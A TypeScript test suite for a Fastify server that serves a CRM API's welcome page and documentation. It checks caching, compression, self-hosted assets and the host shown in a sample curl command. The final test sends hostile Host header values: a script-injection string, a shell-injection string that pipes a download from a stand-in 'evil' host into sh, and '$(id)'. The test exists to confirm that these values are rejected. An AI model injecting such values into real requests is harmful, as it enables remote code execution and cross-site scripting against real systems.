import Fastify, { type FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { clevertimResources } from '../clevertim/clevertim.ts'
import { clevertimDialect } from '../clevertim/dialect.ts'
import { clevertimDescription } from '../clevertim/docs/description.ts'
import { closeResources } from '../close/close.ts'
import { closeDialect } from '../close/dialect.ts'
import { closeDescription } from '../close/docs/description.ts'
import { mountDocs } from './docs.ts'
import { mountWelcome } from './welcome.ts'

const URL = 'https://crm.example.com'
const nobody = async () => undefined
const apis = [
  closeDescription(closeResources(URL), closeDialect(nobody)),
  clevertimDescription(clevertimResources, clevertimDialect(nobody)),
]
let app: FastifyInstance

beforeAll(async () => {
  app = Fastify({ routerOptions: { ignoreTrailingSlash: true } })
  await mountDocs(app, apis, URL)
  await mountWelcome(app, URL)
})

afterAll(() => app.close())

const get = (url: string, headers: Record<string, string> = {}) => app.inject({ url, headers })

describe('every page and file', () => {
  test.each([
    ['/', 'text/html; charset=utf-8'],
    ['/favicon.svg', 'image/svg+xml'],
    ['/welcome.css', 'text/css; charset=utf-8'],
    ['/welcome.js', 'text/javascript; charset=utf-8'],
    ['/api/openapi.json', 'application/json'],
    ['/api/clevertim/openapi.json', 'application/json'],
    ['/api/docs', 'text/html; charset=utf-8'],
    ['/api/docs/', 'text/html; charset=utf-8'],
    ['/api/docs/brand.css', 'text/css; charset=utf-8'],
    ['/api/docs/geist.woff2', 'font/woff2'],
    ['/api/docs/geist-mono.woff2', 'font/woff2'],
    ['/api/docs/reference.css', 'text/css; charset=utf-8'],
    ['/api/docs/reference.js', 'text/javascript; charset=utf-8'],
    ['/api/docs/scalar.js', 'text/javascript; charset=utf-8'],
  ])('%s is %s, and is sent once to a browser that keeps it', async (path, type) => {
    const first = await get(path)
    expect([first.statusCode, first.headers['content-type']]).toEqual([200, type])
    expect(first.rawPayload.length).toBeGreaterThan(100)

    const again = await get(path, { 'if-none-match': String(first.headers.etag) })
    expect([again.statusCode, again.rawPayload.length]).toEqual([304, 0])

    const head = await app.inject({ method: 'HEAD', url: path })
    expect([head.statusCode, head.headers['content-type'], head.body]).toEqual([200, type, ''])

    const post = await app.inject({ method: 'POST', url: path })
    expect(post.statusCode).toBe(404)
  })

  test('is packed for a browser that can unpack it, under a tag of its own', async () => {
    const plain = await get('/welcome.css')
    const packed = await get('/welcome.css', { 'accept-encoding': 'br, gzip' })
    expect(packed.headers).toMatchObject({ 'content-encoding': 'gzip', vary: 'accept-encoding' })
    expect(packed.rawPayload.length).toBeLessThan(plain.rawPayload.length / 2)
    expect(packed.headers.etag).not.toBe(plain.headers.etag)
    expect((await get('/welcome.css', { 'accept-encoding': 'gzip;q=0' })).headers['content-encoding']).toBeUndefined()
  })
})

describe('nothing comes from elsewhere', () => {
  test.each(['/', '/api/docs'])(
    'on %s, and no script or style is written into it that the policy forbids',
    async (path) => {
      const { body } = await get(path)
      const sources = [...body.matchAll(/\b(?:src|href)="([^"]*)"/g)].map(([, source]) => source ?? '')
      expect(sources.length).toBeGreaterThan(4)
      expect(sources.filter((source) => !/^[/#]/.test(source) || source.startsWith('//'))).toEqual([])
      expect(body).not.toMatch(/<script(?![^>]* src=)|\son\w+=|\{\{/)
      for (const source of sources.filter((one) => one.startsWith('/')))
        expect((await get(source)).statusCode).toBe(200)
    },
  )

  test('and the reference is told to keep to itself', async () => {
    const { body } = await get('/api/docs/reference.js')
    for (const setting of ['telemetry: false', 'withDefaultFonts: false', 'agent: { disabled: true }']) {
      expect(body).toContain(setting)
    }
    expect(body).not.toContain('proxyUrl')
  })
})

describe('the first call is to the address that the browser came by', () => {
  const command = async (host: string) => /<code id="curl">.*?<\/code>/s.exec((await get('/', { host })).body)?.[0]

  test.each([
    ['localhost:3000', 'http://localhost:3000/api/v1/lead/'],
    ['[::1]:3000', 'http://[::1]:3000/api/v1/lead/'],
    ['192.168.1.7', 'http://192.168.1.7/api/v1/lead/'],
    // The one from the settings, whose scheme is known.
    ['crm.example.com', 'https://crm.example.com/api/v1/lead/'],
  ])('%s', async (host, expected) => {
    expect((await command(host))?.replaceAll(/<[^>]*>/g, '')).toContain(expected)
  })

  test.each(['"><script>alert(1)</script>', "x';curl evil|sh;'", 'evil.example/path', 'a b', '$(id)', '$&'])(
    'unless it is no address: %s',
    async (host) => {
      const { body } = await get('/', { host })
      expect(body).toContain('<span data-origin>https://crm.example.com</span>/api/v1/lead/')
    },
  )
})
